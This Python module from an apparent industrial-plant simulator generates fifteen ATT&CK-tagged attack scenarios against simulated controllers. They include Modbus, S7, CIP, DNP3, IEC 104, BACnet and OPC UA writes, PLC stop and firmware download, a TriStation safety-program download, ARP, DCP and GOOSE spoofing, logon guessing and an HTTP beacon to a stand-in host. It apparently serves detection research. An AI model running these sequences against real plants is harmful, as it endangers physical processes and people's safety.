"""The first fifteen families: what most controllers obey, and what most networks believe."""

from __future__ import annotations

import struct
from typing import TYPE_CHECKING, Final

from interlock.plant.actors.boiler import BOILER_REALS
from interlock.plant.actors.engineering import download_block, identify, upload_block
from interlock.plant.actors.filling import FILLER_TAGS
from interlock.plant.actors.hall import HALL_OBJECTS
from interlock.plant.actors.pasteuriser import PASTEURISER_URL, PASTEURISER_WRITABLE
from interlock.plant.actors.power import FEEDER_ADDRESS, FEEDER_SWITCHES
from interlock.plant.actors.steps import Ask, Cast, Close, Link, Wait
from interlock.plant.actors.windows import log_on, wrong_account
from interlock.plant.blind.chance import attacker, count, one_of, pace, sent, some_of
from interlock.plant.blind.drawn import drawn
from interlock.plant.machines import BY_NAME, MACHINES
from interlock.plant.protocols import bacnet, cip, dnp3, goose, iec104, modbus, profinet, s7comm, tristation
from interlock.plant.protocols.cip_files import download
from interlock.plant.protocols.network import ARP, arp
from interlock.plant.protocols.opcua_client import Client
from interlock.plant.wire.frames import End

if TYPE_CHECKING:
    from collections.abc import Callable

    from interlock.plant.actors.steps import Script
    from interlock.plant.attacks.scenario import Scenario, Scene
    from interlock.plant.draws import Draws

__all__ = ["FAMILIES"]

_WRITES: Final = ("T0855", "T0836", "T0831", "T0806")
_SINCE_1601: Final = 116_444_736_000_000_000
_PORTS: Final = (21, 80, 102, 161, 443, 445, 502, 1502, 2404, 4840, 20000, 44818, 47808)


def _modbus_write(draws: Draws) -> Scenario:
    victim = one_of(draws, ("plc-water", "drive-pump"))
    who, times, pause = attacker(draws, victim), count(draws, 1, 200), pace(draws, 0.02, 5.0)
    address, value, function = count(draws, 0, 3), draws.number(14), one_of(draws, (5, 6, 15, 16))
    pdus = {
        5: modbus.write_coil(address, on=bool(value & 1)),
        6: modbus.write_register(address, value),
        15: struct.pack("!BHHBB", 15, address, 1, 1, value & 1),
        16: struct.pack("!BHHBH", 16, address, 1, 2, value),
    }
    times = min(times, int(150 / pause) + 1)

    def script(scene: Scene) -> Script:
        first = scene.draws.number(15)
        messages = (modbus.adu((first + k) & 0xFFFF, 1, pdus[function]) for k in range(times))
        yield from sent(Link(who, victim, 502), messages, pause)

    return drawn("modbus-write", _WRITES, who, [victim], script)


def _s7(draws: Draws) -> Scenario:
    what = one_of(draws, ("stop", "write", "download", "upload"))
    who = attacker(draws, "plc-boiler")
    real, value = one_of(draws, BOILER_REALS), draws.uniform(-50.0, 500.0)
    block = f"_{one_of(draws, ('08', '0A', '0C', '0E'))}{count(draws, 1, 99):05d}P"
    octets = bytes(draws.number(8) for _ in range(count(draws, 100, 3000)))
    link = Link(who, "plc-boiler", 102)
    deeds = {
        "stop": s7comm.job(2, bytes((s7comm.PLC_STOP,)) + bytes(5) + b"\x09P_PROGRAM"),
        "write": s7comm.write_real(2, real, value),
    }
    ids = {
        "stop": ("T0858", "T0816"),
        "write": _WRITES,
        "download": ("T0843", "T0889", "T0821"),
        "upload": ("T0845", "T0882"),
    }

    def script(_scene: Scene) -> Script:
        if what in deeds:
            yield from sent(link, (s7comm.connect(), s7comm.setup(1), deeds[what]), 0.1)
        elif what == "download":
            yield from download_block(who, block, octets)
        else:
            yield from upload_block(who, one_of(draws, ("_0800001P", "_0A00001P")))

    return drawn(f"s7-{what}", ids[what], who, ["plc-boiler"], script)


def _cip(draws: Draws) -> Scenario:
    what = one_of(draws, ("tag", "mode", "reset", "firmware"))
    victim = "plc-filler" if what in {"tag", "mode"} else "drive-pump"
    who, tag, value = (
        attacker(draws, victim),
        one_of(draws, tuple(FILLER_TAGS)),
        draws.uniform(-100.0, 1000.0),
    )
    image = bytes(draws.number(8) for _ in range(count(draws, 2_000, 30_000)))
    deeds = {
        "tag": [cip.write_tag(tag, value)],
        "mode": [cip.mode_change(running=False)],
        "reset": [cip.request(cip.RESET, cip.object_path(1, 1), b"\0")],
        "firmware": list(download(f"FW{draws.number(16):04x}.bin", b"PD-11 V9.9\0\0" + image)),
    }
    ids = {
        "tag": _WRITES,
        "mode": ("T0858", "T0816"),
        "reset": ("T0816",),
        "firmware": ("T0857", "T0839", "T0843"),
    }

    def script(_scene: Scene) -> Script:
        link = Link(who, victim, 44818)
        answers = yield Ask(link, cip.register())
        session = cip.session_of(answers[0]) if answers else 0
        yield from sent(
            link, (cip.unconnected(session, deed, k) for k, deed in enumerate(deeds[what], 1)), 0.05
        )

    return drawn(f"cip-{what}", ids[what], who, [victim], script)


def _dnp3(draws: Draws) -> Scenario:
    what = one_of(draws, ("restart", "direct", "select"))
    who, master, times, pause = (
        attacker(draws, "rtu-well"),
        count(draws, 2, 90),
        count(draws, 1, 20),
        pace(draws, 0.5, 15.0),
    )
    ids = ("T0816", "T0814") if what == "restart" else ("T0855", "T0848", "T0831", "T0806")

    def script(_scene: Scene) -> Script:
        def messages() -> list[bytes]:
            control = [dnp3.control(0, on=bool(k & 1)) for k in range(times)]
            if what == "restart":
                return [dnp3.request(k, dnp3.COLD_RESTART, master=master) for k in range(min(times, 4))]
            if what == "direct":
                return [dnp3.request(k, dnp3.DIRECT_OPERATE, c, master=master) for k, c in enumerate(control)]
            steps = (dnp3.SELECT, dnp3.OPERATE)
            return [
                dnp3.request(2 * k + j, s, c, master=master)
                for k, c in enumerate(control)
                for j, s in enumerate(steps)
            ]

        yield from sent(Link(who, "rtu-well", 20000), messages(), min(pause, 120 / times))

    return drawn(f"dnp3-{what}", ids, who, ["rtu-well"], script)


def _iec104(draws: Draws) -> Scenario:
    what = one_of(draws, ("command", "clock"))
    who, back_s = attacker(draws, "rtu-feeder"), draws.uniform(-1e8, 1e8)
    ids = ("T0855", "T0848", "T0831") if what == "command" else ("T0872", "T0836", "T0855")

    def script(scene: Scene) -> Script:
        link, master = Link(who, "rtu-feeder", 2404), iec104.Master(FEEDER_ADDRESS)
        yield Ask(link, iec104.u_frame(iec104.STARTDT))
        if what == "command":
            state = bytes((scene.draws.number(1),))
            yield Ask(link, master.command(iec104.SINGLE_COMMAND, FEEDER_SWITCHES[0].command, state))
        else:
            yield Ask(link, master.command(iec104.CLOCK, 0, iec104.cp56(scene.now_s() + back_s)))
        yield Close(link)

    return drawn(f"iec104-{what}", ids, who, ["rtu-feeder"], script)


def _bacnet_write(draws: Draws) -> Scenario:
    who, value, priority = attacker(draws, "hvac-hall"), draws.uniform(-20.0, 90.0), count(draws, 1, 16)
    target = one_of(draws, [o for o in HALL_OBJECTS if o.type != bacnet.ANALOG_INPUT])

    def script(_scene: Scene) -> Script:
        yield Ask(Link(who, "hvac-hall", 47808, "udp"), bacnet.write_present(1, target, value, priority))

    return drawn("bacnet-write", _WRITES, who, ["hvac-hall"], script)


def _opcua_write(draws: Draws) -> Scenario:
    who, node, value = (
        attacker(draws, "plc-pasteuriser"),
        one_of(draws, tuple(PASTEURISER_WRITABLE)),
        draws.uniform(0.0, 140.0),
    )

    def script(scene: Scene) -> Script:
        link = Link(who, "plc-pasteuriser", 4840)
        speaker = Client(PASTEURISER_URL, who, lambda: round(scene.now_s() * 1e7) + _SINCE_1601)
        yield Ask(link, speaker.hello())
        speaker.opened((yield Ask(link, speaker.open()))[0])
        speaker.created((yield Ask(link, speaker.create_session()))[0])
        yield Ask(link, speaker.activate_session(*scene.accounts.shift.pair))
        yield Ask(link, speaker.write(node, value))
        yield Close(link)

    return drawn("opcua-write", ("T0836", "T0855", "T0859", "T0831"), who, ["plc-pasteuriser"], script)


def _sweep(draws: Draws) -> Scenario:
    who = attacker(draws)
    machines = some_of(draws, [m.name for m in MACHINES if m.name != who], 6)
    ports, pause = some_of(draws, _PORTS, 1), pace(draws, 0.01, 1.0)

    def script(_scene: Scene) -> Script:
        for machine in machines:
            for port in ports:
                link = Link(who, machine, port)
                yield Ask(link, b"")
                yield Close(link)
                yield Wait(pause)

    return drawn("sweep", ("T0846",), who, machines, script)


def _identities(draws: Draws) -> Scenario:
    machines = some_of(draws, ("plc-water", "drive-pump", "plc-boiler", "plc-filler"), 1)
    who, pause = attacker(draws, *machines), pace(draws, 0.2, 20.0)

    def script(_scene: Scene) -> Script:
        for machine in machines:
            yield from identify(who, machine)
            yield Wait(pause)

    return drawn("identities", ("T0888", "T0846"), who, machines, script)


def _logons(draws: Draws) -> Scenario:
    machines = some_of(draws, ("historian", "engineering", "hmi"), 1)
    who = one_of(
        draws,
        [a for a in ("vendor-laptop", "plc-filler", "hvac-hall", "hmi") if a not in machines]
        or ["vendor-laptop"],
    )
    names, pause = (
        some_of(draws, ("administrator", "operator", "service", "backup", "guest"), 2),
        pace(draws, 0.5, 8.0),
    )

    def script(scene: Scene) -> Script:
        for machine in machines:
            for name in names:
                link = Link(who, machine, 445)
                yield from log_on(link, scene, wrong_account(name))
                yield Close(link)
                yield Wait(pause)

    return drawn("logons", ("T0859", "T0886", "T0812"), who, machines, script)


def _safety(draws: Draws) -> Scenario:
    who, parts, size = attacker(draws, "safety-boiler"), count(draws, 1, 30), count(draws, 40, 250)

    def script(scene: Scene) -> Script:
        program = [
            (7).to_bytes(2, "little") + bytes(scene.draws.number(8) for _ in range(size))
            for _ in range(parts)
        ]
        messages = [
            tristation.envelope(tristation.CONNECT),
            tristation.command(tristation.DOWNLOAD_CHANGE, 1),
            *(tristation.command(tristation.ALLOCATE_PROGRAM, 2 + k, each) for k, each in enumerate(program)),
            tristation.command(tristation.END_DOWNLOAD_CHANGE, 3 + parts),
        ]
        for octets in messages:
            yield Ask(Link(who, "safety-boiler", 1502, "udp"), octets)
            yield Wait(0.1)

    return drawn("safety-program", ("T0843", "T0889", "T0880", "T0821"), who, ["safety-boiler"], script)


def _arp(draws: Draws) -> Scenario:
    pairs = (
        ("hmi", "plc-water"),
        ("hmi", "plc-boiler"),
        ("hmi", "rtu-feeder"),
        ("historian", "plc-pasteuriser"),
    )
    victims = one_of(draws, pairs)
    who = one_of(draws, [a for a in ("vendor-laptop", "engineering", "hvac-hall") if a not in victims])
    rounds, pause = count(draws, 5, 60), pace(draws, 0.5, 4.0)

    def script(_scene: Scene) -> Script:
        mac = BY_NAME[who].end.mac
        ends = [BY_NAME[name].end for name in victims]
        for k in range(rounds):
            for victim, other in (ends, ends[::-1]):
                false = arp(2, End(mac, other.ip) if k < rounds - 1 else other, victim)
                yield Cast(who, victim.mac, ARP, false)
            yield Wait(pause)

    return drawn("arp", ("T0830",), who, list(victims), script)


def _dcp(draws: Draws) -> Scenario:
    what, who = one_of(draws, ("name", "address")), attacker(draws, "rio-boiler")
    name, host = f"io-{draws.number(20):05x}", count(draws, 100, 250)

    def script(scene: Scene) -> Script:
        target, xid = BY_NAME["rio-boiler"].end.mac, scene.draws.number(31)
        moved = profinet.set_ip(xid, bytes((10, 77, 1, host)), bytes((255, 255, 255, 0)), bytes(4))
        octets = profinet.set_name(xid, name) if what == "name" else moved
        yield Cast(who, target, profinet.ETHERTYPE, octets)

    return drawn(f"dcp-{what}", ("T0836", "T0855"), who, ["rio-boiler"], script)


def _goose(draws: Draws) -> Scenario:
    who, ahead, times, pause = (
        attacker(draws, "rtu-feeder"),
        count(draws, 2, 5000),
        count(draws, 3, 60),
        pace(draws, 0.02, 1.0),
    )

    def script(scene: Scene) -> Script:
        base = "RTUFEEDERCTRL/LLN0"
        false = goose.Publisher(
            reference=f"{base}$GO$breaker", data_set=f"{base}$breaker", name="breaker", application=0x3001,
            state_number=ahead, changed_s=scene.now_s(),
        )  # fmt: skip
        for _ in range(times):
            false.changed((False, 0.0), scene.now_s())
            octets, sender = false.payload(4000), BY_NAME["rtu-feeder"].end.mac
            yield Cast(who, bytes.fromhex("010ccd010001"), goose.ETHERTYPE, octets, sender, 4)
            yield Wait(pause)

    return drawn("goose", ("T0856",), who, ["rtu-feeder"], script)


def _beacon(draws: Draws) -> Scenario:
    who, every_s, shaky = attacker(draws), pace(draws, 15.0, 60.0), draws.uniform(0.0, 0.1)
    path = f"/{draws.number(32):08x}"

    def script(scene: Scene) -> Script:
        link = Link(who, "outside", 80)
        for k in range(12):
            if k == 2:
                scene.shows()
            yield Ask(
                link,
                f"GET {path}?{k} HTTP/1.1\r\nHost: {scene.draws.number(24):06x}.example\r\n\r\n".encode(
                    "ascii"
                ),
            )
            yield Close(link)
            yield Wait(every_s * (1 + scene.draws.uniform(-shaky, shaky)))

    return drawn("beacon", ("T0869", "T0885"), who, ["outside"], script, slow=True)


FAMILIES: Final[dict[str, Callable[[Draws], Scenario]]] = {
    "modbus-write": _modbus_write, "s7": _s7, "cip": _cip, "dnp3": _dnp3, "iec104": _iec104,
    "bacnet-write": _bacnet_write,
    "opcua-write": _opcua_write, "sweep": _sweep, "identities": _identities, "logons": _logons, "safety": _safety,
    "arp": _arp, "dcp": _dcp, "goose": _goose, "beacon": _beacon,
}  # fmt: skip
